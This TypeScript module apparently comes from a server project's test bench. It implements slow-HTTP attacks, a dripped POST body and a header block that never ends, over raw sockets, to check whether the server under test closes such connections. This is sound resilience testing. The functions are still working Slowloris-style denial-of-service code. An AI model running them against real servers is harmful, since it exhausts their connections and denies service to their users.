/**
 * A slow HTTP body: a POST that announces a SET body of `announce` bytes and drips it, `chunk`
 * bytes every `everyMs`, to hold a connection and its buffer at the party for as long as the party
 * lets it (issue 12 item 10); and slow headers, a header block that never ends. Written on a raw socket: an HTTP client would buffer or time out on
 * its own terms. Shared by the attack catalogue and the bench's attack load.
 */
import * as net from "node:net";

export interface SlowBodyPlan {
  /** Content-Length announced. */
  readonly announce: number;
  /** Bytes sent per tick. */
  readonly chunk: number;
  readonly everyMs: number;
}

export interface SlowBodyEnd {
  /** Who closed the connection: the party (a time or size limit) or the sender (stopped). */
  readonly closedBy: "party" | "sender";
  readonly heldMs: number;
  readonly bytesSent: number;
  /** The HTTP status line the party answered with before closing, if any. */
  readonly status?: string;
}

/** Hold one slow body open at `url` (http://host:port/path) until the party closes it or `signal` fires. */
export function holdSlowBody(url: string, plan: SlowBodyPlan, signal: AbortSignal): Promise<SlowBodyEnd> {
  const u = new URL(url);
  let sent = 0;
  return holdDrip(
    u,
    `POST ${u.pathname} HTTP/1.1\r\nHost: ${u.host}\r\nContent-Type: application/set-payment\r\n` +
      `Content-Length: ${plan.announce}\r\n\r\n`,
    () => {
      const n = Math.min(plan.chunk, plan.announce - sent);
      if (n <= 0) return undefined;
      sent += n;
      return new Uint8Array(n);
    },
    plan.everyMs,
    signal,
  ).then((end) => ({ ...end, bytesSent: sent }));
}

/**
 * Slow headers: a POST whose header block never ends, one byte of a header value every `everyMs`,
 * held until the party closes it or `signal` fires. `bytesSent` counts the dripped bytes.
 */
export function holdSlowHeaders(url: string, everyMs: number, signal: AbortSignal): Promise<SlowBodyEnd> {
  const u = new URL(url);
  let sent = 0;
  return holdDrip(
    u,
    `POST ${u.pathname} HTTP/1.1\r\nHost: ${u.host}\r\nContent-Type: application/set-payment\r\nX-Padding: `,
    () => {
      sent++;
      return Uint8Array.of(0x61);
    },
    everyMs,
    signal,
  ).then((end) => ({ ...end, bytesSent: sent }));
}

/** Open a raw connection, send `opening`, then `drip()` every `everyMs` until either side closes. */
function holdDrip(
  u: URL,
  opening: string,
  drip: () => Uint8Array | undefined,
  everyMs: number,
  signal: AbortSignal,
): Promise<Omit<SlowBodyEnd, "bytesSent">> {
  const started = performance.now();
  return new Promise((resolve) => {
    let answer = "";
    let timer: NodeJS.Timeout | undefined;
    let closedBy: SlowBodyEnd["closedBy"] = "party";
    const socket = net.createConnection({ host: u.hostname, port: Number(u.port) }, () => {
      socket.write(opening);
      timer = setInterval(() => {
        const bytes = drip();
        if (bytes) socket.write(bytes);
      }, everyMs);
    });
    const stop = () => {
      closedBy = "sender";
      socket.destroy();
    };
    signal.addEventListener("abort", stop, { once: true });
    socket.on("data", (d: Buffer) => {
      if (answer.length < 200) answer += d.toString("latin1");
    });
    socket.on("error", () => {});
    socket.on("close", () => {
      clearInterval(timer);
      signal.removeEventListener("abort", stop);
      const status = answer.split("\r\n", 1)[0];
      resolve({ closedBy, heldMs: performance.now() - started, ...(status ? { status } : {}) });
    });
    if (signal.aborted) stop();
  });
}
